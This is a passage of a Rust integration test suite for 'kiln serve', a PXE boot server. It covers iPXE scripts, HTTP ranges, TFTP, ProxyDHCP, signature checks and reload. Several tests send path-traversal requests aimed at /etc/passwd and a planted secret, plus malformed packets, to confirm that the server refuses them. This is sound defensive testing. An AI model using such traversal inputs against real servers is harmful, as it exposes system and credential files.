//! `kiln serve` against signed stand-in builds (no mmdebstrap): iPXE scripts per MAC, role files
//! with Range/ETag, NoCloud seeds, TFTP option negotiation and error paths (a Rust client and
//! curl's), ProxyDHCP on the proxy port, metrics, malformed input, reload and shutdown.
//! The real PXE boot of a built image is in tests/slow_build.rs (`privileged_pxe_*`).

// Signals to the kiln serve child.
#![allow(unsafe_code)]

mod common;
use common::{ack, rrq};
mod signing;

use std::fs;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpStream, UdpSocket};
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

const BUILD_ID: &str = "1111111111111111111111111111111111111111111111111111111111111111";
const WORKER_1: &str = "52:54:00:00:00:21";

struct Server {
    child: Child,
    status: serde_json::Value,
    stdout: BufReader<std::process::ChildStdout>,
    _project: tempfile::TempDir,
    out: PathBuf,
    ipxe: tempfile::TempDir,
    /// Everything the server wrote on stderr so far.
    stderr: std::sync::Arc<std::sync::Mutex<String>>,
}

impl Server {
    fn http(&self) -> String {
        format!("http://{}", self.status["http"].as_str().unwrap())
    }
    fn tftp(&self) -> SocketAddr {
        self.status["tftp"].as_str().unwrap().parse().unwrap()
    }
    fn signal(&self, sig: i32) {
        unsafe { libc::kill(self.child.id() as i32, sig) };
    }
    fn stop(mut self) -> (i32, String) {
        self.signal(libc::SIGTERM);
        let st = self.child.wait().unwrap();
        let mut rest = String::new();
        self.stdout.read_to_string(&mut rest).unwrap();
        (st.code().unwrap_or(-1), rest)
    }
}

fn bytes(n: usize, seed: u8) -> Vec<u8> {
    (0..n)
        .map(|i| (i as u32).wrapping_mul(2654435761).rotate_left(seed as u32) as u8)
        .collect()
}

/// A project copy with a signed stand-in worker build and worker-1's signed seed.
fn fixture() -> (tempfile::TempDir, PathBuf) {
    fixture_secrets(false, false, Some(false))
}

/// [`fixture`] whose role build (`manifest.json`) and worker-1 seed (`node.json`) say
/// `contains_secrets` as given; `seed_cluster` is the seed's `cluster_secrets` (`None`: absent,
/// as in a node.json before schema kiln.node/2).
fn fixture_secrets(
    role_secrets: bool,
    seed_secrets: bool,
    seed_cluster: Option<bool>,
) -> (tempfile::TempDir, PathBuf) {
    let project = common::project_copy();
    let out = project.path().join("out");
    let key = kiln::trust::sign::load_signing_key(&project.path().join("keys")).unwrap();
    let role = out.join("worker").join(BUILD_ID);
    let manifest = serde_json::json!({
        "kernel": {"version": "6.1.0-test", "cmdline": "boot=live plainroot root=/dev/disk/by-partuuid/abc console=tty0 console=ttyS0,115200n8"},
        "contains_secrets": role_secrets,
    });
    signing::make_signed_dir(
        &role,
        &[
            ("vmlinuz", &bytes(300_000, 1)),
            ("initrd.img", &bytes(700_001, 2)),
            ("root.squashfs", &bytes(3_000_000, 3)),
            (
                "manifest.json",
                serde_json::to_string(&manifest).unwrap().as_bytes(),
            ),
        ],
        &key,
    );
    std::os::unix::fs::symlink(BUILD_ID, out.join("worker/latest")).unwrap();
    let node = out.join("nodes/by-id/worker-1-0123456789abcdef");
    let mut node_json = serde_json::json!({
        "hostname": "worker-1", "role": "worker", "role_build_id": BUILD_ID,
        "instance_id": "worker-1-aaaaaaaaaaaa", "contains_secrets": seed_secrets,
    });
    if let Some(c) = seed_cluster {
        node_json["cluster_secrets"] = c.into();
    }
    signing::make_signed_dir(
        &node,
        &[
            ("meta-data", b"instance-id: worker-1-aaaaaaaaaaaa\nlocal-hostname: worker-1\n"),
            ("user-data", b"#cloud-config\nhostname: worker-1\n"),
            ("network-config", b"version: 2\nethernets:\n  nic0:\n    match:\n      macaddress: \"52:54:00:00:00:21\"\n    dhcp4: true\n"),
            ("node.json", serde_json::to_string(&node_json).unwrap().as_bytes()),
        ],
        &key,
    );
    std::os::unix::fs::symlink(
        "by-id/worker-1-0123456789abcdef",
        out.join("nodes/worker-1"),
    )
    .unwrap();
    (project, out)
}

fn ipxe_dir() -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    fs::write(d.path().join("undionly.kpxe"), bytes(70_001, 4)).unwrap();
    fs::write(d.path().join("ipxe.efi"), bytes(1_000_000, 5)).unwrap();
    fs::write(
        d.path().parent().unwrap().join("kiln-serve-secret"),
        b"TOPSECRET",
    )
    .unwrap();
    d
}

fn start_with(
    project: tempfile::TempDir,
    out: PathBuf,
    extra: &[&str],
) -> Result<Server, (i32, String)> {
    start_limited(project, out, extra, None)
}

/// [`start_with`], the server limited to `nofile` file descriptors (soft and hard).
fn start_limited(
    project: tempfile::TempDir,
    out: PathBuf,
    extra: &[&str],
    nofile: Option<u64>,
) -> Result<Server, (i32, String)> {
    let ipxe = ipxe_dir();
    let mut cmd = signing::kiln();
    if let Some(n) = nofile {
        use std::os::unix::process::CommandExt;
        // SAFETY: setrlimit is async-signal-safe; nothing else runs between fork and exec.
        unsafe {
            cmd.pre_exec(move || {
                let rl = libc::rlimit {
                    rlim_cur: n,
                    rlim_max: n,
                };
                if libc::setrlimit(libc::RLIMIT_NOFILE, &rl) != 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
    }
    let mut child = cmd
        .arg("--dir")
        .arg(project.path())
        .args([
            "serve",
            "--json",
            "--listen",
            "127.0.0.1",
            "--http-port",
            "0",
            "--tftp-port",
            "0",
        ])
        .args([
            "--dhcp-port",
            "0",
            "--proxy-port",
            "0",
            "--grace-secs",
            "2",
            "--ipxe-dir",
        ])
        .arg(ipxe.path())
        .args(extra)
        .env("KILN_LOG", "kiln=info")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdout = BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    stdout.read_line(&mut line).unwrap();
    if line.is_empty() {
        let st = child.wait().unwrap();
        let mut e = String::new();
        child.stderr.take().unwrap().read_to_string(&mut e).unwrap();
        return Err((st.code().unwrap_or(-1), e));
    }
    // Keep stderr drained so logging never blocks the server.
    let err = child.stderr.take().unwrap();
    let stderr = std::sync::Arc::new(std::sync::Mutex::new(String::new()));
    let sink = stderr.clone();
    std::thread::spawn(move || {
        for l in BufReader::new(err).lines() {
            let Ok(l) = l else { break };
            let mut s = sink.lock().unwrap();
            s.push_str(&l);
            s.push('\n');
        }
    });
    Ok(Server {
        child,
        status: serde_json::from_str(&line).unwrap_or_else(|e| panic!("{e}: {line}")),
        stdout,
        _project: project,
        out,
        ipxe,
        stderr,
    })
}

fn start(extra: &[&str]) -> Server {
    let (p, out) = fixture();
    start_with(p, out, extra).unwrap_or_else(|(c, e)| panic!("serve exited {c}: {e}"))
}

fn get(url: &str) -> reqwest::blocking::Response {
    reqwest::blocking::Client::new().get(url).send().unwrap()
}

fn sha(b: &[u8]) -> String {
    common::sha256_hex(b)
}

#[test]
fn boot_script_per_mac_with_seed_and_inline_network_config() {
    let s = start(&[]);
    let base = s.http();
    let r = get(&format!("{base}/boot.ipxe?mac=52-54-00-00-00-21"));
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["cache-control"], "no-store");
    let script = r.text().unwrap();
    let root = format!("{base}/roles/worker/{BUILD_ID}");
    assert!(script.starts_with("#!ipxe\n"), "{script}");
    assert!(
        script.contains(
            "echo kiln: booting worker-1 role=worker build=111111111111 seed=worker-1-aaaaaaaaaaaa"
        ),
        "{script}"
    );
    let kernel = script.lines().find(|l| l.starts_with("kernel ")).unwrap();
    let args: Vec<&str> = kernel.split(' ').collect();
    assert_eq!(args[1], format!("{root}/vmlinuz"));
    assert!(args.contains(&"initrd=initrd.img"));
    assert!(args.contains(&"boot=live"));
    assert!(args.contains(&format!("fetch={root}/root.squashfs").as_str()));
    assert!(args.contains(&"BOOTIF=01-52-54-00-00-00-21"));
    assert!(args.contains(&"console=ttyS0,115200n8"));
    assert!(
        !args
            .iter()
            .any(|a| a.starts_with("root=") || *a == "plainroot"),
        "disk root arguments leaked: {kernel}"
    );
    assert!(args.contains(&format!("ds=nocloud-net;s={base}/nocloud/52-54-00-00-00-21/").as_str()));
    let nc = args
        .iter()
        .find_map(|a| a.strip_prefix("network-config="))
        .unwrap();
    use base64::Engine;
    let nc = base64::engine::general_purpose::STANDARD
        .decode(nc)
        .unwrap();
    assert_eq!(
        nc,
        fs::read(s.out.join("nodes/worker-1/network-config")).unwrap()
    );
    assert!(script.contains(&format!("initrd --name initrd.img {root}/initrd.img\n")));
    assert!(script.ends_with("boot\n"));
    // Every MAC notation gives the same script.
    for m in [
        "52:54:00:00:00:21",
        "52%3A54%3A00%3A00%3A00%3A21",
        "52-54-00-00-00-21".to_uppercase().as_str(),
    ] {
        assert_eq!(
            get(&format!("{base}/boot.ipxe?mac={m}")).text().unwrap(),
            script,
            "{m}"
        );
    }
    // Without ?mac= iPXE is told to ask again with its MAC.
    let chain = get(&format!("{base}/boot.ipxe")).text().unwrap();
    assert_eq!(
        chain,
        format!("#!ipxe\nchain {base}/boot.ipxe?mac=${{net0/mac:hexhyp}}\n")
    );
    // worker-2 has no node outputs: it boots the role without a seed.
    let w2 = get(&format!("{base}/boot.ipxe?mac=52:54:00:00:00:22"))
        .text()
        .unwrap();
    assert!(
        w2.contains("worker-2 role=worker")
            && w2.contains("seed=none")
            && !w2.contains("ds=nocloud"),
        "{w2}"
    );
    // master-1 has no build at all; an unknown MAC is not in the inventory.
    let m1 = get(&format!("{base}/boot.ipxe?mac=52:54:00:00:00:11"))
        .text()
        .unwrap();
    assert!(
        m1.contains("not provisioned")
            && m1.contains("kiln build --role master")
            && m1.contains("exit 1"),
        "{m1}"
    );
    let unknown = get(&format!("{base}/boot.ipxe?mac=02:00:00:00:00:01"))
        .text()
        .unwrap();
    assert!(
        unknown.contains("not in the inventory") && unknown.contains("--default-role"),
        "{unknown}"
    );
    let junk = get(&format!("{base}/boot.ipxe?mac=$%7Bnet0%7D"))
        .text()
        .unwrap();
    assert!(
        junk.contains("invalid MAC") && !junk.contains('$') && !junk.contains("net0"),
        "{junk}"
    );
    let (code, summary) = s.stop();
    assert_eq!(code, 0);
    assert!(summary.contains("\"event\":\"stopped\""), "{summary}");
}

#[test]
fn default_role_boots_unknown_macs() {
    let s = start(&["--default-role", "worker"]);
    let script = get(&format!("{}/boot.ipxe?mac=02-00-00-00-00-01", s.http()))
        .text()
        .unwrap();
    assert!(
        script.contains("02:00:00:00:00:01 (not in the inventory) role=worker"),
        "{script}"
    );
    assert!(!script.contains("ds=nocloud"));
    assert!(script.contains("BOOTIF=01-02-00-00-00-00-01"));
    s.stop();
}

#[test]
fn role_files_have_length_etag_and_ranges() {
    let s = start(&[]);
    let url = format!("{}/roles/worker/{BUILD_ID}/root.squashfs", s.http());
    let want = fs::read(s.out.join("worker").join(BUILD_ID).join("root.squashfs")).unwrap();
    let etag = format!("\"{}\"", sha(&want));
    let c = reqwest::blocking::Client::new();
    let r = c.get(&url).send().unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(
        r.headers()["content-length"],
        want.len().to_string().as_str()
    );
    assert_eq!(r.headers()["etag"], etag.as_str());
    assert_eq!(r.headers()["accept-ranges"], "bytes");
    assert!(r.headers()["cache-control"]
        .to_str()
        .unwrap()
        .contains("immutable"));
    assert_eq!(r.bytes().unwrap().as_ref(), &want[..]);
    let r = c
        .get(&url)
        .header("Range", "bytes=1000-1999")
        .send()
        .unwrap();
    assert_eq!(r.status(), 206);
    assert_eq!(
        r.headers()["content-range"],
        format!("bytes 1000-1999/{}", want.len()).as_str()
    );
    assert_eq!(r.bytes().unwrap().as_ref(), &want[1000..2000]);
    let r = c.get(&url).header("Range", "bytes=-10").send().unwrap();
    assert_eq!(r.bytes().unwrap().as_ref(), &want[want.len() - 10..]);
    let r = c
        .get(&url)
        .header("Range", format!("bytes={}-", want.len()))
        .send()
        .unwrap();
    assert_eq!(r.status(), 416);
    assert_eq!(
        r.headers()["content-range"],
        format!("bytes */{}", want.len()).as_str()
    );
    let r = c.get(&url).header("If-None-Match", &etag).send().unwrap();
    assert_eq!(r.status(), 304);
    // If-Range with another validator: the whole file.
    let r = c
        .get(&url)
        .header("Range", "bytes=0-9")
        .header("If-Range", "\"other\"")
        .send()
        .unwrap();
    assert_eq!(r.status(), 200);
    let r = c.head(&url).send().unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(
        r.headers()["content-length"],
        want.len().to_string().as_str()
    );
    assert_eq!(r.bytes().unwrap().len(), 0);
    for bad in [
        format!("/roles/worker/{BUILD_ID}/disk.raw"),
        format!("/roles/master/{BUILD_ID}/vmlinuz"),
        "/roles/worker/0000/vmlinuz".to_string(),
    ] {
        assert_eq!(get(&format!("{}{bad}", s.http())).status(), 404, "{bad}");
    }
    // Concurrent clients each get the exact bytes (pread, no shared offsets).
    let threads: Vec<_> = (0..8)
        .map(|i| {
            let url = url.clone();
            std::thread::spawn(move || {
                let r = reqwest::blocking::Client::new()
                    .get(&url)
                    .header("Range", format!("bytes={}-", i * 1000))
                    .send()
                    .unwrap();
                sha(&r.bytes().unwrap())
            })
        })
        .collect();
    for (i, t) in threads.into_iter().enumerate() {
        assert_eq!(t.join().unwrap(), sha(&want[i * 1000..]));
    }
    let r = c.post(&url).send().unwrap();
    assert_eq!(r.status(), 405);
    let metrics = get(&format!("{}/metrics", s.http())).text().unwrap();
    assert!(
        metrics.contains("kiln_http_requests_total{route=\"role_file\",code=\"206\"} "),
        "{metrics}"
    );
    assert!(metrics.contains("# TYPE kiln_http_bytes_sent_total counter"));
    assert!(metrics.contains("kiln_served_builds 1\n"), "{metrics}");
    s.stop();
}

#[test]
fn nocloud_seeds_by_mac() {
    let s = start(&[]);
    for f in ["meta-data", "user-data", "network-config"] {
        let r = get(&format!("{}/nocloud/52-54-00-00-00-21/{f}", s.http()));
        assert_eq!(r.status(), 200, "{f}");
        assert_eq!(
            r.bytes().unwrap().as_ref(),
            &fs::read(s.out.join("nodes/worker-1").join(f)).unwrap()[..]
        );
    }
    // No vendor-data template: an empty one (cloud-init 22.4 retries a 404 ten times).
    let vd = get(&format!(
        "{}/nocloud/52-54-00-00-00-21/vendor-data",
        s.http()
    ));
    assert_eq!(vd.status(), 200);
    assert_eq!(vd.bytes().unwrap().len(), 0);
    assert_eq!(
        get(&format!("{}/nocloud/52-54-00-00-00-21/node.json", s.http())).status(),
        404
    );
    assert_eq!(
        get(&format!("{}/nocloud/52-54-00-00-00-22/meta-data", s.http())).status(),
        404
    );
    let status: serde_json::Value =
        serde_json::from_str(&get(&format!("{}/status", s.http())).text().unwrap()).unwrap();
    assert_eq!(status["clients"]["127.0.0.1"], WORKER_1);
    assert_eq!(status["nodes"][0]["hostname"], "worker-1");
    s.stop();
}

/// Raw HTTP on a socket: what reqwest would normalise away.
fn raw_http(addr: &str, req: &[u8]) -> String {
    let mut t = TcpStream::connect(addr).unwrap();
    t.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    t.write_all(req).unwrap();
    let mut v = Vec::new();
    let _ = t.read_to_end(&mut v);
    String::from_utf8_lossy(&v).into_owned()
}

#[test]
fn http_survives_traversal_and_garbage() {
    let s = start(&[]);
    let addr = s.status["http"].as_str().unwrap().to_string();
    for path in [
        "/ipxe/../../../../etc/passwd",
        "/ipxe/..%2f..%2fkiln-serve-secret",
        "/ipxe/%2e%2e/kiln-serve-secret",
        "/ipxe/..\\kiln-serve-secret",
        "/roles/../nodes/worker-1/user-data",
    ] {
        let r = raw_http(
            &addr,
            format!("GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").as_bytes(),
        );
        assert!(
            r.starts_with("HTTP/1.1 404") || r.starts_with("HTTP/1.1 400"),
            "{path}: {r}"
        );
        assert!(
            !r.contains("TOPSECRET") && !r.contains("root:"),
            "{path}: {r}"
        );
    }
    for garbage in [
        &b"\x00\x01\x02\r\n\r\n"[..],
        b"GET\r\n\r\n",
        b"GET / HTTP/9.9\r\n\r\n",
        &[b'A'; 70000][..],
    ] {
        let _ = raw_http(&addr, garbage);
    }
    let r = raw_http(&addr, b"GET /ipxe/undionly.kpxe HTTP/1.1\r\nHost: x\r\nRange: bytes=0-3\r\nConnection: close\r\n\r\n");
    assert!(r.starts_with("HTTP/1.1 206"), "{r}");
    assert_eq!(get(&format!("{}/healthz", s.http())).status(), 200);
    s.stop();
}

// --- TFTP -----------------------------------------------------------------------------------

struct Got {
    data: Vec<u8>,
    oack: Vec<(String, String)>,
    packets: usize,
}

/// A TFTP client: sends `req`, acknowledges every `window`-th block (and the last), returns the
/// file. `drop_first_ack` skips acknowledging the first window once (to see a retransmit).
fn tftp_get(
    server: SocketAddr,
    req: &[u8],
    window: usize,
    drop_first_ack: bool,
) -> Result<Got, (u16, String)> {
    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
    sock.set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    sock.send_to(req, server).unwrap();
    let mut buf = vec![0u8; 70000];
    let mut data = Vec::new();
    let mut oack = Vec::new();
    let mut expected: u16 = 1;
    let mut blksize = 512;
    let mut packets = 0;
    let mut dropped = !drop_first_ack;
    loop {
        let (n, from) = sock.recv_from(&mut buf).unwrap();
        packets += 1;
        let p = &buf[..n];
        match u16::from_be_bytes([p[0], p[1]]) {
            6 => {
                let f: Vec<String> = p[2..n - 1]
                    .split(|c| *c == 0)
                    .map(|s| String::from_utf8_lossy(s).into_owned())
                    .collect();
                oack = f.chunks(2).map(|c| (c[0].clone(), c[1].clone())).collect();
                if let Some((_, b)) = oack.iter().find(|(k, _)| k == "blksize") {
                    blksize = b.parse().unwrap();
                }
                sock.send_to(&ack(0), from).unwrap();
            }
            3 => {
                let block = u16::from_be_bytes([p[2], p[3]]);
                if block != expected {
                    continue; // duplicate after a retransmit
                }
                data.extend_from_slice(&p[4..]);
                let last = n - 4 < blksize;
                let end_of_window = (expected as usize).is_multiple_of(window);
                expected = expected.wrapping_add(1);
                if !dropped && end_of_window {
                    dropped = true; // pretend this ACK was lost: the server must resend
                    expected = expected.wrapping_sub(window as u16);
                    data.truncate(data.len() - window * blksize);
                    continue;
                }
                if last || end_of_window {
                    sock.send_to(&ack(block), from).unwrap();
                }
                if last {
                    return Ok(Got {
                        data,
                        oack,
                        packets,
                    });
                }
            }
            5 => {
                let code = u16::from_be_bytes([p[2], p[3]]);
                return Err((
                    code,
                    String::from_utf8_lossy(&p[4..n.saturating_sub(1)]).into_owned(),
                ));
            }
            op => panic!("unexpected opcode {op}"),
        }
    }
}

#[test]
fn tftp_negotiates_blksize_tsize_windowsize() {
    let s = start(&[]);
    let want = fs::read(s.ipxe.path().join("ipxe.efi")).unwrap();
    // Plain RFC 1350: 512-byte blocks, no OACK.
    let g = tftp_get(s.tftp(), &rrq("ipxe.efi", &[]), 1, false).unwrap();
    assert_eq!(g.data, want);
    assert!(g.oack.is_empty());
    // blksize capped at 1468, tsize = real size, windowsize 8.
    let g = tftp_get(
        s.tftp(),
        &rrq(
            "/ipxe.efi",
            &[("blksize", "9000"), ("tsize", "0"), ("windowsize", "8")],
        ),
        8,
        false,
    )
    .unwrap();
    assert_eq!(g.data, want);
    let o: std::collections::BTreeMap<_, _> = g.oack.into_iter().collect();
    assert_eq!(o["blksize"], "1468");
    assert_eq!(o["tsize"], want.len().to_string());
    assert_eq!(o["windowsize"], "8");
    // A lost ACK: the window is sent again after the timeout and the file still arrives whole.
    let t = Instant::now();
    let g = tftp_get(
        s.tftp(),
        &rrq(
            "ipxe.efi",
            &[("blksize", "1024"), ("windowsize", "4"), ("timeout", "1")],
        ),
        4,
        true,
    )
    .unwrap();
    assert_eq!(g.data, want);
    assert!(
        t.elapsed() >= Duration::from_millis(900),
        "no retransmission wait?"
    );
    assert!(g.packets > want.len() / 1024 + 2);
    // A file that is an exact multiple of the block size ends with an empty block. Files are
    // pinned when the catalog loads: a new one is served after a reload.
    fs::write(s.ipxe.path().join("snponly.efi"), vec![7u8; 1024]).unwrap();
    reload_until(&s, || {
        get(&format!("{}/ipxe/snponly.efi", s.http())).status() == 200
    });
    let g = tftp_get(
        s.tftp(),
        &rrq("snponly.efi", &[("blksize", "512")]),
        1,
        false,
    )
    .unwrap();
    assert_eq!(g.data.len(), 1024);
    // Concurrent transfers, each on its own port, each complete.
    let server = s.tftp();
    let ts: Vec<_> = (0..6u16)
        .map(|i| {
            std::thread::spawn(move || {
                let w = (1 + i % 3).to_string();
                let req = rrq("ipxe.efi", &[("blksize", "1468"), ("windowsize", &w)]);
                tftp_get(server, &req, 1 + (i % 3) as usize, false)
                    .unwrap()
                    .data
            })
        })
        .collect();
    for t in ts {
        assert_eq!(t.join().unwrap(), want);
    }
    let metrics = get(&format!("{}/metrics", s.http())).text().unwrap();
    assert!(
        metrics.contains("kiln_tftp_transfers_total{result=\"ok\"} 10"),
        "{metrics}"
    );
    assert!(metrics.contains("kiln_tftp_retransmits_total"), "{metrics}");
    s.stop();
}

#[test]
fn tftp_uefi_tsize_probe_then_transfer() {
    let s = start(&[]);
    // UEFI firmware asks for tsize, reads the OACK, aborts with error 8, then asks again.
    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
    sock.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    sock.send_to(
        &rrq("undionly.kpxe", &[("tsize", "0"), ("blksize", "1468")]),
        s.tftp(),
    )
    .unwrap();
    let mut buf = [0u8; 2048];
    let (n, from) = sock.recv_from(&mut buf).unwrap();
    assert_eq!(&buf[..2], &[0, 6]);
    assert!(String::from_utf8_lossy(&buf[..n]).contains("70001"));
    sock.send_to(b"\x00\x05\x00\x08tsize probe\x00", from)
        .unwrap();
    let g = tftp_get(
        s.tftp(),
        &rrq("undionly.kpxe", &[("blksize", "1468")]),
        1,
        false,
    )
    .unwrap();
    assert_eq!(
        g.data,
        fs::read(s.ipxe.path().join("undionly.kpxe")).unwrap()
    );
    s.stop();
}

#[test]
fn tftp_error_paths() {
    let s = start(&[]);
    let t = Instant::now();
    assert_eq!(
        tftp_get(s.tftp(), &rrq("nope.efi", &[]), 1, false)
            .err()
            .unwrap()
            .0,
        1
    );
    assert!(
        t.elapsed() < Duration::from_secs(1),
        "not-found must be fast"
    );
    for evil in [
        "../kiln-serve-secret",
        "..\\kiln-serve-secret",
        "/../kiln-serve-secret",
        "a/../../kiln-serve-secret",
    ] {
        let e = tftp_get(s.tftp(), &rrq(evil, &[]), 1, false).err().unwrap();
        assert_eq!(e.0, 2, "{evil}: {e:?}");
    }
    // Write requests are refused; netascii is not offered; garbage gets error 4.
    let mut wrq = rrq("x", &[]);
    wrq[1] = 2;
    assert_eq!(tftp_get(s.tftp(), &wrq, 1, false).err().unwrap().0, 2);
    let mut ascii = vec![0, 1];
    ascii.extend_from_slice(b"ipxe.efi\0netascii\0");
    assert_eq!(tftp_get(s.tftp(), &ascii, 1, false).err().unwrap().0, 4);
    for garbage in [
        &b"\x00\x01"[..],
        b"\x00\x01abc",
        b"\x00\x09xx\x00",
        b"\xff\xff\xff\xff",
        b"\x00\x01f\x00octet\x00blksize\x00",
    ] {
        let e = tftp_get(s.tftp(), garbage, 1, false).err().unwrap();
        assert_eq!(e.0, 4, "{garbage:?}");
    }
    // Still serving.
    assert!(tftp_get(s.tftp(), &rrq("undionly.kpxe", &[]), 1, false).is_ok());
    s.stop();
}

#[test]
fn tftp_with_curl() {
    if !common::which("curl") {
        return common::skip("tftp_with_curl", "curl not installed");
    }
    let proto = Command::new("curl").arg("--version").output().unwrap();
    if !String::from_utf8_lossy(&proto.stdout).contains("tftp") {
        return common::skip("tftp_with_curl", "this curl has no TFTP support");
    }
    let s = start(&[]);
    let dir = tempfile::tempdir().unwrap();
    for (bs, name) in [("512", "a"), ("1468", "b")] {
        let o = Command::new("curl")
            .args(["-sS", "--tftp-blksize", bs, "-o"])
            .arg(dir.path().join(name))
            .arg(format!("tftp://{}/ipxe.efi", s.tftp()))
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        assert_eq!(
            fs::read(dir.path().join(name)).unwrap(),
            fs::read(s.ipxe.path().join("ipxe.efi")).unwrap()
        );
    }
    let o = Command::new("curl")
        .arg("-sS")
        .arg(format!("tftp://{}/missing", s.tftp()))
        .output()
        .unwrap();
    assert!(!o.status.success());
    s.stop();
}

// --- DHCP on the proxy port -------------------------------------------------------------------

#[test]
fn proxy_dhcp_request_on_port_4011() {
    let s = start(&[]);
    let port: SocketAddr = s.status["proxy_dhcp"].as_str().unwrap().parse().unwrap();
    let mut m = kiln::deliver::serve::dhcp::sample_request(
        [0x52, 0x54, 0, 0, 0, 0x21],
        dhcproto::v4::MessageType::Request,
        Some(0),
        Some(b"PXEClient:Arch:00000:UNDI:002001"),
        Some(b"iPXE"),
    );
    m.set_ciaddr(std::net::Ipv4Addr::LOCALHOST);
    use dhcproto::{Decodable, Encodable};
    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
    sock.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    sock.send_to(&m.to_vec().unwrap(), ("127.0.0.1", port.port()))
        .unwrap();
    let mut buf = [0u8; 1500];
    let (n, _) = sock.recv_from(&mut buf).unwrap();
    let r = dhcproto::v4::Message::decode(&mut dhcproto::Decoder::new(&buf[..n])).unwrap();
    assert_eq!(r.opts().msg_type(), Some(dhcproto::v4::MessageType::Ack));
    assert_eq!(r.xid(), m.xid());
    assert_eq!(
        r.fname_str().unwrap().unwrap().trim_end_matches('\0'),
        format!(
            "{}/boot.ipxe?mac=52-54-00-00-00-21",
            s.status["base_url"].as_str().unwrap()
        )
    );
    // Garbage does not stop it.
    sock.send_to(&[0xde, 0xad], ("127.0.0.1", port.port()))
        .unwrap();
    sock.send_to(&m.to_vec().unwrap(), ("127.0.0.1", port.port()))
        .unwrap();
    assert!(sock.recv_from(&mut buf).is_ok());
    s.stop();
}

// --- Only signed builds ---------------------------------------------------------------------

#[test]
fn tampered_or_unsigned_builds_are_not_served() {
    let (p, out) = fixture();
    let sq = out.join("worker").join(BUILD_ID).join("root.squashfs");
    let mut b = fs::read(&sq).unwrap();
    b[12345] ^= 1;
    fs::write(&sq, b).unwrap();
    let (code, err) = start_with(p, out, &[]).err().expect("must refuse");
    assert_eq!(code, 3, "{err}");
    assert!(
        err.contains("root.squashfs") && err.contains("does not match"),
        "{err}"
    );

    let (p, out) = fixture();
    fs::remove_file(out.join("nodes/worker-1/SHA256SUMS.sig")).unwrap();
    let (code, err) = start_with(p, out, &[]).err().expect("must refuse");
    assert_eq!(code, 3, "{err}");
    assert!(err.contains("SHA256SUMS.sig"), "{err}");

    let (p, out) = fixture();
    let (code, err) = start_with(p, out, &["--default-role", "storage"])
        .err()
        .expect("must refuse");
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("kiln build --role storage"), "{err}");
}

#[test]
fn sighup_reloads_and_keeps_serving_on_failure() {
    let s = start(&[]);
    let script = get(&format!("{}/boot.ipxe?mac=52:54:00:00:00:22", s.http()))
        .text()
        .unwrap();
    assert!(script.contains("seed=none"));
    // Give worker-2 signed outputs, reload: it now boots with its seed.
    let key = kiln::trust::sign::load_signing_key(&s._project.path().join("keys")).unwrap();
    let node = s.out.join("nodes/by-id/worker-2-0123456789abcdef");
    signing::make_signed_dir(
        &node,
        &[
            ("meta-data", b"instance-id: worker-2-bbbbbbbbbbbb\n"),
            ("user-data", b"#cloud-config\n"),
            ("node.json", br#"{"hostname":"worker-2","role":"worker","role_build_id":"1111111111111111111111111111111111111111111111111111111111111111","instance_id":"worker-2-bbbbbbbbbbbb"}"#),
        ],
        &key,
    );
    std::os::unix::fs::symlink(
        "by-id/worker-2-0123456789abcdef",
        s.out.join("nodes/worker-2"),
    )
    .unwrap();
    s.signal(libc::SIGHUP);
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let t = get(&format!("{}/boot.ipxe?mac=52:54:00:00:00:22", s.http()))
            .text()
            .unwrap();
        if t.contains("seed=worker-2-bbbbbbbbbbbb") {
            break;
        }
        assert!(Instant::now() < deadline, "reload did not happen: {t}");
        std::thread::sleep(Duration::from_millis(200));
    }
    // A tampered file makes the next reload fail; the verified copy keeps being served.
    fs::write(node.join("user-data"), b"#cloud-config\nruncmd: [evil]\n").unwrap();
    s.signal(libc::SIGHUP);
    std::thread::sleep(Duration::from_secs(2));
    let ud = get(&format!("{}/nocloud/52:54:00:00:00:22/user-data", s.http()))
        .text()
        .unwrap();
    assert_eq!(ud, "#cloud-config\n");
    let (code, _) = s.stop();
    assert_eq!(code, 0);
}

/// `kiln bench --part pxe`: `kiln serve` measured by 32 HTTP clients and TFTP at three window
/// sizes, against nginx and tftpd-hpa (files shrunk 64× here; the full-size run is in
/// docs/benchmarks.md). A peer that is not installed must be a visible SKIP row.
#[test]
fn bench_pxe_part_measures_http_and_tftp() {
    let d = common::project_copy();
    let o = Command::new(env!("CARGO_BIN_EXE_kiln"))
        .arg("--dir")
        .arg(d.path())
        .args([
            "bench", "--part", "pxe", "--role", "worker", "--runs", "1", "--json",
        ])
        .env("KILN_BENCH_PXE_SCALE", "64")
        .env_remove("KILN_OUT")
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let all = v["rows"].as_array().unwrap();
    assert!(all.iter().all(|r| r["part"] == "pxe"));
    let what = |r: &serde_json::Value| r["what"].as_str().unwrap().to_string();
    let find = |prefix: &str| -> Vec<serde_json::Value> {
        all.iter()
            .filter(|r| what(r).starts_with(prefix))
            .cloned()
            .collect()
    };
    let http = &all[0];
    assert!(
        http["what"].as_str().unwrap().contains("32 clients"),
        "{http}"
    );
    assert!(http["median_seconds"].as_f64().unwrap() > 0.0);
    assert!(
        http["detail"].as_str().unwrap().contains("MB/s aggregate"),
        "{http}"
    );
